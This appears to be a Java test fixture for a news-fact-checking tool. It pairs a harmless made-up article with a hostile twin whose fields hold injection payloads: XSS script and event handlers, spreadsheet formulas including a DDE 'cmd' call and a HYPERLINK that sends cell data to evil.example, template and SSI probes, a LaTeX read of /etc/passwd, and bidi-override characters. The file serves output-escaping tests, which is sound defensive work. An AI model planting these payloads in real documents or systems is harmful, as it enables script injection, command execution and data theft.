package org.outagraph.web;

import java.util.List;
import org.outagraph.ingest.text.CleanText;

/// An article that somebody sends in, with the words that reviewers take from it; made up.
///
/// @param headline its headline
/// @param publisher who published it
/// @param authors who wrote it
/// @param address where it is said to lie
/// @param sentences its text, each a paragraph; a claim is made with each as its quote
/// @param newcomer the name of an organisation that the third sentence brings in
/// @param speaker who is said to have said the first one
/// @param note what a reviewer writes wherever words are asked for
record SentArticle(
    String headline,
    String publisher,
    List<String> authors,
    String address,
    List<String> sentences,
    String newcomer,
    String speaker,
    String note) {
  /// Letters that are written from right to left, as an honest article may have them.
  static final String HEBREW = "\u05E9\u05DC\u05D5\u05DD";

  private static final String OVERRIDE = "\u202E";
  private static final String ISOLATE = "\u2067";

  /// Each field breaks some form, if that form lets it: pages, scripts and addresses in them, XML,
  /// JSON, CSV and spreadsheets, Turtle, SPARQL, RDF Patch, BibTeX, RIS, and the order in which
  /// words are read.
  static final SentArticle HOSTILE =
      new SentArticle(
          "=1+1 "
              + HEBREW
              + " <script>alert('h')</script> \"Norland\" ]]>\r\nTY  - JOUR\r\n&amp; </title><svg"
              + " onload=alert(5)> "
              + OVERRIDE
              + "live\u2069 {\"@type\":\"x\"} \\input{/etc/passwd} }, title = {evil} % $x_1^2$ ~",
          "@Gazette " + HEBREW + " </script><script>alert(6)</script> \"x\" \\ & }" + OVERRIDE,
          List.of(
              "=Eve " + HEBREW + " <img src=x onerror=alert(7)>",
              "Mallory }, note = {evil",
              "Trent\nER  - \nTY  - JOUR"),
          "https://evil.example/a\"onmouseover=\"alert(8)/<script>?q=]]>&x='{}\\" + OVERRIDE,
          List.of(
              "=HYPERLINK(\"https://evil.example/?\"&A1,\"Lumo Bank\") went dark <script>alert(1)"
                  + "</script><img src=x onerror=alert(2)> \u0000for "
                  + OVERRIDE
                  + "hours\u202C, "
                  + HEBREW
                  + ".",
              "@SUM(1+1)*cmd|' /C calc'!A0 means that Norland was spared ]]></summary></entry> <a"
                  + " href=\"javascript:alert(3)\">because</a> --> of \"its\" \\ suppliers "
                  + ISOLATE
                  + "there.",
              "+Zephyr stood still \"\"\" ''' \"@en . } <urn:evil:s> <urn:evil:p> <urn:evil:o> ."
                  + " # %0D%0A \\u0022 \\\" {{7*7}} ${7*7} <%= 7*7 %> <!--#exec cmd=x --> &lt;"
                  + " &#60; \uFEFF.",
              "-Nordwind Rail ran late\tin Norland;\"a\",'b'</textarea></bdi></style><iframe"
                  + " srcdoc=x></iframe> it\u2066 told \uD83D\uDE00 people."),
          "=Zephyr \"Air\" <b onmouseover=alert(4)> " + HEBREW + " \\ ]]>" + OVERRIDE,
          "\uFF20Officials <svg onload=alert(9)> \"q\" \\ " + HEBREW + OVERRIDE,
          "=2+2 <script>alert(10)</script>\nTX .\nA <urn:evil:s> <urn:evil:p> <urn:evil:o> .\n\"]]>"
              + HEBREW
              + OVERRIDE);

  /// The same without harm; no link can be made of its address either.
  static final SentArticle HARMLESS =
      new SentArticle(
          "Norland goes dark for a day",
          "The Made-up Gazette",
          List.of("Eve Example", "Mallory Made-up", "Trent Thought-of"),
          "https://news.example/norland and more",
          List.of(
              "The branches of Lumo Bank went dark for hours on that day.",
              "All of Norland was spared because of its suppliers there.",
              "The aircraft of Zephyr stood still at the airport of the town.",
              "The trains of Nordwind Rail ran late in Norland, it told people."),
          "Zephyr Air",
          "Officials of the town",
          "Read in the article");

  String text() {
    return String.join("\n\n", sentences);
  }

  /// The words in the form in which we keep them: on one line, with nothing that cannot be seen.
  static String kept(String words) {
    return CleanText.of(words).text().replace("\n\n", " ");
  }
}
